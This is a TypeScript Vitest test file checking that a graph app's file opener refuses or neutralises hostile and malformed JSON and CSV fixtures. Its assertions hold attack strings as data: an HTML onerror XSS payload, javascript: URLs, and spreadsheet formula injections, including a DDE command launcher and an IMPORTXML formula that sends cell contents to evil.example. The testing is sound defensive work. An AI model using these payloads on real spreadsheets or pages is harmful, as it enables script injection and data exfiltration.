import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { exportSvg } from '$lib/export/svg-export';
import { wholeView } from '../../../tests/fixtures/example-graph';
import { allElements, parseXml } from '../../../tests/fixtures/xml-document';
import { describeProblem } from '$lib/model/graph-problem';
import type { OpenedGraph } from './opened-graph';
import { openGraphFiles } from './open-graph-files';

/** The hostile and broken files of tests/fixtures/hostile, opened as the Open control opens them. */
const TODAY = '2026-11-28';

function fixture(name: string): File {
	return new File(
		[readFileSync(new URL(`../../../tests/fixtures/hostile/${name}`, import.meta.url))],
		name
	);
}

async function problemsOf(...files: File[]): Promise<string[]> {
	const opened = await openGraphFiles(files, TODAY);
	if (opened.ok) throw new Error(`${files[0].name} opened; it should have been refused`);
	return opened.problems.map(describeProblem);
}

async function graphOf(...files: File[]) {
	const opened: OpenedGraph = await openGraphFiles(files, TODAY);
	if (!opened.ok) throw new Error(opened.problems.map(describeProblem).join('\n'));
	return opened.graph;
}

describe('hostile and broken files', () => {
	it('script-in-label.json opens, its markup kept as text and escaped in the SVG export', async () => {
		const graph = await graphOf(fixture('script-in-label.json'));
		expect(graph.actors[0].name).toBe('<img src=x onerror=alert(1)>');
		const svg = exportSvg(wholeView(graph));
		expect(svg).toContain('&lt;img src=x onerror=alert(1)&gt;');
		const elements = allElements(parseXml(svg));
		const names = new Set(elements.map((element) => element.localName));
		for (const name of ['script', 'img', 'iframe', 'b', 'foreignObject'])
			expect(names).not.toContain(name);
		const handlers = elements.flatMap((element) =>
			Array.from(element.attributes).filter((attribute) => /^on/i.test(attribute.name))
		);
		expect(handlers).toEqual([]);
	});

	it('javascript-url.json is refused: links lead to the web only', async () => {
		expect(await problemsOf(fixture('javascript-url.json'))).toEqual([
			'javascript-url.json sources[0].url: must be an http:// or https:// link'
		]);
	});

	it('data-url.json is refused the same way', async () => {
		expect(await problemsOf(fixture('data-url.json'))).toEqual([
			'data-url.json sources[0].url: must be an http:// or https:// link'
		]);
	});

	it('duplicate-ids.json is refused, each second id named', async () => {
		expect(await problemsOf(fixture('duplicate-ids.json'))).toEqual([
			'duplicate-ids.json actors[2].id: another actor already has the id "prk"',
			'duplicate-ids.json sources[1].id: another source already has the id "ap"'
		]);
	});

	it('dangling-references.json is refused, each missing record named', async () => {
		expect(await problemsOf(fixture('dangling-references.json'))).toEqual([
			'dangling-references.json relations[0].type: no relation type has the id "smuggling" (declare it in relationTypes)',
			'dangling-references.json relations[0].target: no actor has the id "rus"',
			'dangling-references.json relations[0].evidence[0].source: no source has the id "un-1718"'
		]);
	});

	it('wrong-types.json is refused, each value with what it should be', async () => {
		expect(await problemsOf(fixture('wrong-types.json'))).toEqual([
			'wrong-types.json asOf: must be a string, not a number',
			'wrong-types.json actors[0].name: must be a string, not an array',
			'wrong-types.json actors[1].kind: must be one of "state", "organization", "person", "other"',
			'wrong-types.json relations[0].status: must be one of "confirmed", "reported", "alleged", "denied"',
			'wrong-types.json relations[0].evidence: must be an array, not a string'
		]);
	});

	it('truncated.json is refused with the line and column where it ends', async () => {
		expect(await problemsOf(fixture('truncated.json'))).toEqual([
			'truncated.json line 33, column 27: the file ends inside the text that starts at line 33, column 18 (was it cut off?)'
		]);
	});

	it('a 10 MB text is refused by its path, before the schema sees it', async () => {
		const graph = JSON.parse(await fixture('script-in-label.json').text());
		graph.relations[0].summary = 'x'.repeat(10 * 1024 * 1024);
		const file = new File([JSON.stringify(graph)], 'huge-text.json');
		expect(await problemsOf(file)).toEqual([
			'huge-text.json relations[0].summary: a text of 10,485,760 characters is too long to open (at most 1,000,000)'
		]);
	});

	it('JSON nested 100,000 levels deep is refused without a stack overflow', async () => {
		const deep = `{"actors": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
		expect(await problemsOf(new File([deep], 'deep.json'))).toEqual([
			'deep.json actors[0][0][0]…: the JSON is nested more than 100 levels deep; a graph file needs no more than 6'
		]);
	});

	it('unbalanced-quotes.csv is refused with the row and column of the open quote', async () => {
		expect(await problemsOf(fixture('unbalanced-quotes.csv'))).toEqual([
			'unbalanced-quotes.csv row 3, column quote: the quoted cell that starts on line 3 is never closed: a " is missing (a quote inside a cell is written twice, "")'
		]);
	});

	it('bad-date.csv is refused, every problem by row and column', async () => {
		expect(await problemsOf(fixture('bad-date.csv'))).toEqual([
			'bad-date.csv row 3, column since: "2024-13-01" is not a date: month 13 does not exist',
			'bad-date.csv row 4, column status: "sometimes" must be one of "confirmed", "reported", "alleged", "denied"',
			'bad-date.csv row 4, column since: "14 Oct 2006" is not a date (use YYYY, YYYY-MM or YYYY-MM-DD)',
			'bad-date.csv row 4, column URL: "javascript:alert(1)" must be an http:// or https:// link'
		]);
	});

	it('formula-injection.csv opens, its formulas inert text without the guard', async () => {
		const graph = await graphOf(fixture('formula-injection.csv'));
		const [relation] = graph.relations;
		expect(relation.summary).toBe('=HYPERLINK("http://evil.example","click")');
		expect(relation.evidence.map((e) => [e.quote, e.note])).toEqual([
			["=cmd|' /C calc'!A0", '+1 more'],
			['=1+1 unguarded', '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")']
		]);
		expect(graph.sources).toMatchObject([{ title: '@SUM(A1:A9)', publisher: '-2 reporters' }]);
	});
});
